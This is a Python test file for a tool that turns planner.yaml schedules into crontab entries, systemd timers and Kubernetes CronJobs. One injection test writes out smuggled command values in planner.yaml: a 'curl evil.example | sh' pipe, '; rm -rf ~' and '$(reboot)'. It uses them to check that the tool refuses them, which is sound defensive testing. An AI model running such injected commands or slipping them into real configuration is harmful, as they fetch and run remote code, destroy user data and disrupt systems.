"""planner.yaml to crontab, against the real `crontab` binary and a throw-away user's crontab.

.ci/run installs Debian's cron and creates the user apiinv-crontest; elsewhere these tests skip.
"""

from __future__ import annotations

import os
import pwd
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import PLAN_PLANNER, PLAN_TOOLS

from apiinv import config
from apiinv.ops.schedule import BEGIN, describe, render

GOLDEN = Path(__file__).parent / "golden" / "plan.cron"
TEST_USER = "apiinv-crontest"
ROOT = Path(__file__).resolve().parents[2]


def _user_exists() -> bool:
    try:
        pwd.getpwnam(TEST_USER)
    except KeyError:
        return False
    return True


needs_crontab = pytest.mark.skipif(
    shutil.which("crontab") is None or not _user_exists() or os.geteuid() != 0,
    reason=f"needs the crontab binary, root, and the user {TEST_USER} (.ci/run sets them up)",
)


def crontab(*args: str, content: str | None = None) -> str:
    result = subprocess.run(
        ["crontab", "-u", TEST_USER, *args], input=content, capture_output=True, text=True
    )
    return result.stdout


@pytest.fixture
def user_crontab():
    existing = "MAILTO=ops@acme.example\n# nightly backup, not ours\n15 3 * * * /usr/local/bin/backup --all\n"
    crontab("-", content=existing)
    yield existing
    subprocess.run(["crontab", "-u", TEST_USER, "-r"], capture_output=True)


@pytest.mark.parametrize(
    "expression, reading",
    [
        ("0 2 * * *", "At 02:00"),
        ("0 4 * * 0", "At 04:00, only on Sunday"),
        ("0 6 1 * *", "At 06:00, on day 1 of the month"),
        ("30 7 * * 1-5", "At 07:30, Monday through Friday"),
        ("*/15 * * * *", "Every 15 minutes"),
        ("@daily", "At 00:00"),
        ("@reboot", "at boot"),
    ],
)
def test_describe(expression: str, reading: str) -> None:
    assert describe(expression) == reading


def test_golden_render_of_the_plans_planner(plan_dir: Path) -> None:
    planner = config.load(plan_dir, require_planner=True).planner
    rendered = render(
        planner,
        config_dir=Path("/srv/apiinv"),
        output=Path("/srv/apiinv/output files"),
        planner_file=Path("/srv/apiinv/planner.yaml"),
        executable=Path("/opt/apiinv/.venv/bin/apiinv"),
    )
    assert rendered.entries == 3
    assert rendered.block == GOLDEN.read_text()


def test_disabled_schedules_are_left_out_and_timezone_becomes_cron_tz(tmp_path: Path) -> None:
    folder = tmp_path / "c"
    folder.mkdir()
    (folder / "tools.yaml").write_text(PLAN_TOOLS)
    (folder / "planner.yaml").write_text(
        'timezone: Europe/Berlin\nschedules:\n  early:\n    cron: "0 1 * * *"\n'
        '  late:\n    cron: "0 2 * * *"\n    enabled: false\n'
    )
    planner = config.load(folder, require_planner=True).planner
    rendered = render(
        planner,
        config_dir=folder,
        output=folder / "out",
        planner_file=folder / "planner.yaml",
        executable=Path("/x/apiinv"),
    )
    lines = rendered.block.splitlines()
    assert "CRON_TZ=Europe/Berlin" in lines and rendered.entries == 1
    assert "# late: disabled in planner.yaml" in lines
    assert not any(line.startswith("0 2 ") for line in lines)


# What the plan's tools need before cron may collect from them: settings, and credentials in .env.
READY_TOOLS = PLAN_TOOLS.replace(
    '"https://platform.42crunch.com"',
    '"https://platform.42crunch.com"\n  token_url: "https://42c.example/token"',
).replace('"https://apigee.googleapis.com"', '"https://apigee.googleapis.com"\n  organization: acme')
READY_ENV = (
    "APIINV_CEQUENCE_API_KEY=k\nAPIINV_42CRUNCH_CLIENT_ID=i\nAPIINV_42CRUNCH_CLIENT_SECRET=s\n"
    "APIINV_APIGEE_TOKEN=t\n"
)


def _config(tmp_path: Path, planner: str = PLAN_PLANNER, *, credentials: bool = True) -> Path:
    folder = tmp_path / "config dir"  # a space, on purpose
    folder.mkdir()
    (folder / "planner.yaml").write_text(planner)
    (folder / "tools.yaml").write_text(READY_TOOLS)
    if credentials:
        (folder / ".env").write_text(READY_ENV)
    return folder


DEV_APIINV = str(Path(sys.executable).parent / "apiinv")


@needs_crontab
def test_install_twice_gives_one_block_and_keeps_other_lines(cli, tmp_path: Path, user_crontab: str) -> None:
    folder = _config(tmp_path)
    for _ in range(2):
        result = cli("schedule", "install", "--user", TEST_USER, "--apiinv", DEV_APIINV, config_dir=folder)
        assert result.exit_code == 0, result.output
    table = crontab("-l")
    assert table.count(BEGIN) == 1 and table.startswith(user_crontab)
    assert "run --schedule daily_collection --workers 4" in table
    assert f"cd '{folder}'" in table  # the space is quoted
    assert (folder / "schedules" / "apiinv.cron").read_text() in table
    assert cli("schedule", "remove", "--user", TEST_USER, config_dir=folder).exit_code == 0
    assert crontab("-l") == user_crontab


@needs_crontab
def test_dry_run_installs_nothing(cli, tmp_path: Path, user_crontab: str) -> None:
    folder = _config(tmp_path)
    result = cli("schedule", "install", "--user", TEST_USER, "--dry-run", config_dir=folder)
    assert result.exit_code == 0 and BEGIN in result.output and "/usr/local/bin/backup" in result.output
    assert crontab("-l") == user_crontab


@needs_crontab
def test_an_injection_attempt_in_planner_yaml_is_refused(cli, tmp_path: Path, user_crontab: str) -> None:
    folder = _config(
        tmp_path,
        'schedules:\n  "x; curl evil.example | sh":\n    cron: "0 2 * * *"\n'
        '  y:\n    cron: "0 2 * * * ; rm -rf ~"\n  z:\n    cron: "0 3 * * *"\n'
        '    tools: ["$(reboot)"]\n',
    )
    result = cli("schedule", "install", "--user", TEST_USER, config_dir=folder)
    assert result.exit_code == 3
    assert "invalid name 'x; curl evil.example | sh'" in result.output
    assert (
        "cron needs five: minute hour day month weekday" in result.output and "'$(reboot)'" in result.output
    )
    assert crontab("-l") == user_crontab


def _script(*args: str, apiinv: str | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "APIINV": apiinv or str(Path(sys.executable).parent / "apiinv")}
    return subprocess.run(
        ["bash", str(ROOT / "install_cron.sh"), *args], capture_output=True, text=True, env=env
    )


@needs_crontab
def test_install_cron_script_installs_dry_runs_and_removes(tmp_path: Path, user_crontab: str) -> None:
    folder = _config(tmp_path)
    common = ["--config-dir", str(folder), "--output", str(tmp_path / "out"), "--user", TEST_USER]
    dry = _script(*common, "--dry-run")
    assert dry.returncode == 0 and BEGIN in dry.stdout and crontab("-l") == user_crontab
    assert not (folder / "schedules").exists()  # a dry run writes nothing anywhere
    for _ in range(2):
        assert _script(*common).returncode == 0
    assert crontab("-l").count(BEGIN) == 1 and (folder / "schedules" / "apiinv.cron").is_file()
    removed = _script(*common, "--remove")
    assert removed.returncode == 0 and "removed apiinv's entries" in removed.stdout
    assert crontab("-l") == user_crontab
    assert not (folder / "schedules" / "apiinv.cron").exists()  # no stale block left to review
    again = _script(*common, "--remove")
    assert again.returncode == 0 and "nothing removed" in again.stdout


@needs_crontab
def test_the_dry_run_prints_the_locked_build_the_install_writes(
    cli, tmp_path: Path, user_crontab: str
) -> None:
    folder = _config(tmp_path)
    env = {k: v for k, v in os.environ.items() if k != "APIINV"}
    dry = subprocess.run(
        [
            "bash",
            str(ROOT / "install_cron.sh"),
            "--config-dir",
            str(folder),
            "--user",
            TEST_USER,
            "--dry-run",
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert dry.returncode == 0, dry.stderr
    cron_build = f"{ROOT / '.venv-cron' / 'bin' / 'apiinv'} --config-dir"
    assert cron_build in dry.stdout and "/.venv/bin/apiinv" not in dry.stdout
    rendered = cli("schedule", "render", config_dir=folder)
    assert cron_build in rendered.output and "/.venv/bin/apiinv" not in rendered.output


@needs_crontab
def test_install_refuses_schedules_whose_tools_lack_credentials(
    cli, tmp_path: Path, user_crontab: str
) -> None:
    folder = _config(tmp_path, credentials=False)
    install = ("schedule", "install", "--user", TEST_USER, "--apiinv", DEV_APIINV)
    refused = cli(*install, config_dir=folder)
    assert refused.exit_code == 3
    assert "schedule daily_collection: tool cequence lacks APIINV_CEQUENCE_API_KEY" in refused.output
    assert "weekly_processing" not in refused.output  # processing needs no credentials
    assert crontab("-l") == user_crontab and not (folder / "schedules").exists()
    forced = cli(*install, "--force", config_dir=folder)
    assert forced.exit_code == 0 and "installed anyway: --force" in forced.output
    assert crontab("-l").count(BEGIN) == 1


def test_install_cron_script_help_is_its_usage_only() -> None:
    result = _script("--help")
    assert result.returncode == 0 and result.stdout.startswith("Install planner.yaml's schedules")
    assert "set -e" not in result.stdout and "#" not in result.stdout


@needs_crontab
def test_install_cron_script_refuses_bad_input(tmp_path: Path, user_crontab: str) -> None:
    broken = _config(tmp_path, 'schedules:\n  daily:\n    cron: "every day"\n')
    result = _script("--config-dir", str(broken), "--user", TEST_USER)
    assert result.returncode == 3 and "cron needs five" in result.stderr
    missing = _script("--config-dir", str(broken), apiinv=str(tmp_path / "no-apiinv"))
    assert missing.returncode == 1 and "apiinv is not installed" in missing.stderr
    assert crontab("-l") == user_crontab


def test_install_cron_script_refuses_without_crontab(tmp_path: Path) -> None:
    folder = _config(tmp_path)
    bare_path = tmp_path / "bin"
    bare_path.mkdir()
    for tool in ("dirname", "sed"):
        (bare_path / tool).symlink_to(shutil.which(tool))
    env = {
        "PATH": str(bare_path),
        "APIINV": str(Path(sys.executable).parent / "apiinv"),
        "HOME": str(tmp_path),
    }
    result = subprocess.run(
        [shutil.which("bash"), str(ROOT / "install_cron.sh"), "--config-dir", str(folder)],
        capture_output=True,
        text=True,
        env=env,
    )
    assert result.returncode == 1 and "crontab is not installed" in result.stderr


UNIT_PLANNER = """\
timezone: Europe/Berlin
schedules:
  nightly: {cron: "0 2 * * *"}
  workdays: {cron: "30 7 * * MON-FRI", tools: [cequence]}
  quarter: {cron: "*/15 * * * *"}
  monthly: {cron: "0 6 1 * *", action: generate_reports}
  paused: {cron: "0 3 * * *", enabled: false}
"""


@pytest.mark.parametrize(
    "cron, calendar",
    [
        ("0 2 * * *", "*-*-* 02:00:00"),
        ("30 7 * * 1-5", "Mon..Fri *-*-* 07:30:00"),
        ("30 7 * * MON-FRI", "Mon..Fri *-*-* 07:30:00"),
        ("*/15 * * * *", "*-*-* *:00/15:00"),
        ("0 6 1 * *", "*-*-01 06:00:00"),
        ("0 0 * * 0,6", "Sun,Sat *-*-* 00:00:00"),
        ("5 4 1 1,7 *", "*-01,07-01 04:05:00"),
        ("@weekly", "Sun *-*-* 00:00:00"),
    ],
)
def test_cron_as_systemd_calendar(cron: str, calendar: str) -> None:
    from apiinv.ops.units import on_calendar

    assert on_calendar(cron) == [calendar]


def test_a_cron_restricting_both_day_fields_runs_on_either_under_systemd() -> None:
    from apiinv.ops.units import on_calendar

    # cron: the 1st of the month OR any Monday; a timer fires on any of its OnCalendar= lines
    assert on_calendar("0 2 1 * 1") == ["Mon *-*-* 02:00:00", "*-*-01 02:00:00"]


def _systemd_accepts(calendar: str) -> bool:
    analyze = shutil.which("systemd-analyze")
    return (
        analyze is None
        or subprocess.run([analyze, "calendar", calendar], capture_output=True).returncode == 0
    )


@pytest.mark.parametrize(
    "expression",
    [
        "@daily",
        "@hourly",
        "@weekly",
        "@monthly",
        "@yearly",
        "@midnight",
        "@annually",
        "0 2 1 * 1",
        "0 0 * * */2",
        "0 8-17/2 * * *",
        "0 6 * JAN-MAR sun",
        "0 0 * * 7",
    ],
)
def test_what_validate_config_accepts_renders_for_systemd_and_kubernetes(
    cli, tmp_path: Path, expression: str
) -> None:
    folder = _config(tmp_path, f'schedules:\n  nightly:\n    cron: "{expression}"\n')
    assert cli("validate-config", config_dir=folder).exit_code == 0
    out = tmp_path / "units"
    rendered = cli("schedule", "render", "--format", "systemd", "--out", str(out), config_dir=folder)
    assert rendered.exit_code == 0, rendered.output
    timer = (out / "apiinv-nightly.timer").read_text()
    calendars = [line.split("=", 1)[1] for line in timer.splitlines() if line.startswith("OnCalendar=")]
    assert calendars and all(_systemd_accepts(c) for c in calendars)
    assert cli("schedule", "render", "--format", "k8s", config_dir=folder).exit_code == 0


@pytest.mark.parametrize(
    "expression, reason",
    [
        ("0 0 L * *", "day of month 'L' is neither a number nor a name cron knows"),
        ("5/10 * * * *", "cron steps a range or *, not one value"),
        ("@reboot", "not a schedule at a time"),
    ],
)
def test_validate_config_refuses_what_cron_refuses(cli, tmp_path: Path, expression: str, reason: str) -> None:
    folder = _config(tmp_path, f'schedules:\n  nightly:\n    cron: "{expression}"\n')
    result = cli("validate-config", config_dir=folder)
    assert result.exit_code == 3 and reason in result.output


def test_systemd_units_are_rendered_and_verified(cli, tmp_path: Path) -> None:
    folder = _config(tmp_path, UNIT_PLANNER)
    out = tmp_path / "units"
    installed = Path(sys.executable).parent / "apiinv"  # systemd-analyze verify needs it to exist
    result = cli(
        "schedule",
        "render",
        "--format",
        "systemd",
        "--out",
        str(out),
        "--apiinv",
        str(installed),
        config_dir=folder,
    )
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in out.iterdir())
    assert names == sorted(
        f"apiinv-{n}.{kind}"
        for n in ("nightly", "workdays", "quarter", "monthly")
        for kind in ("service", "timer")
    )
    service = (out / "apiinv-workdays.service").read_text()
    assert "UMask=0077" in service and "run --schedule workdays --workers 4" in service
    assert "OnCalendar=Mon..Fri *-*-* 07:30:00 Europe/Berlin" in (out / "apiinv-workdays.timer").read_text()
    analyze = shutil.which("systemd-analyze")
    if analyze:  # where systemd's own tools exist, they must accept every unit and calendar
        checked = subprocess.run(
            [analyze, "verify", *map(str, sorted(out.iterdir()))], capture_output=True, text=True
        )
        assert checked.returncode == 0, checked.stderr
        for timer in out.glob("*.timer"):
            calendar = next(line for line in timer.read_text().splitlines() if line.startswith("OnCalendar="))
            assert (
                subprocess.run(
                    [analyze, "calendar", calendar.split("=", 1)[1]], capture_output=True
                ).returncode
                == 0
            )


def test_systemd_timers_from_a_checkout_run_the_same_locked_build_as_cron(cli, tmp_path: Path) -> None:
    folder = _config(tmp_path, UNIT_PLANNER)
    result = cli("schedule", "render", "--format", "systemd", config_dir=folder)
    assert result.exit_code == 0, result.output
    assert f"ExecStart={ROOT / '.venv-cron' / 'bin' / 'apiinv'} " in result.output
    assert "/.venv/bin/apiinv" not in result.output


def test_systemd_services_run_as_the_installing_user_not_root(cli, tmp_path: Path) -> None:
    import getpass

    folder = _config(tmp_path, UNIT_PLANNER)
    printed = cli("schedule", "render", "--format", "systemd", config_dir=folder)
    assert printed.exit_code == 0, printed.output
    assert f"User={getpass.getuser()}\n" in printed.output
    out = tmp_path / "units"
    chosen = cli(
        "schedule", "render", "--format", "systemd", "--user", "apiinv", "--out", str(out), config_dir=folder
    )
    assert chosen.exit_code == 0, chosen.output
    assert "User=apiinv\n" in (out / "apiinv-nightly.service").read_text()


def test_kubernetes_cronjobs_are_valid_manifests(cli, tmp_path: Path) -> None:
    import kubernetes_validate
    import yaml

    folder = _config(tmp_path, UNIT_PLANNER)
    result = cli(
        "schedule",
        "render",
        "--format",
        "k8s",
        "--image",
        "registry.acme.example/apiinv:1.2",
        "--namespace",
        "secops",
        "--secret",
        "apiinv-creds",
        config_dir=folder,
    )
    assert result.exit_code == 0, result.output
    jobs = list(yaml.safe_load_all(result.output))
    assert [j["metadata"]["name"] for j in jobs] == [
        "apiinv-nightly",
        "apiinv-workdays",
        "apiinv-quarter",
        "apiinv-monthly",
    ]
    for job in jobs:
        kubernetes_validate.validate(job, "1.30", strict=True)
        spec = job["spec"]
        assert (spec["concurrencyPolicy"], spec["timeZone"]) == ("Forbid", "Europe/Berlin")
        container = spec["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]
        assert container["image"] == "registry.acme.example/apiinv:1.2"
        assert container["envFrom"] == [{"secretRef": {"name": "apiinv-creds"}}]
    assert jobs[1]["spec"]["schedule"] == "30 7 * * MON-FRI"
    assert jobs[1]["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["args"] == [
        "--config-dir",
        "/config",
        "--output",
        "/output",
        "run",
        "--schedule",
        "workdays",
        "--workers",
        "4",
    ]
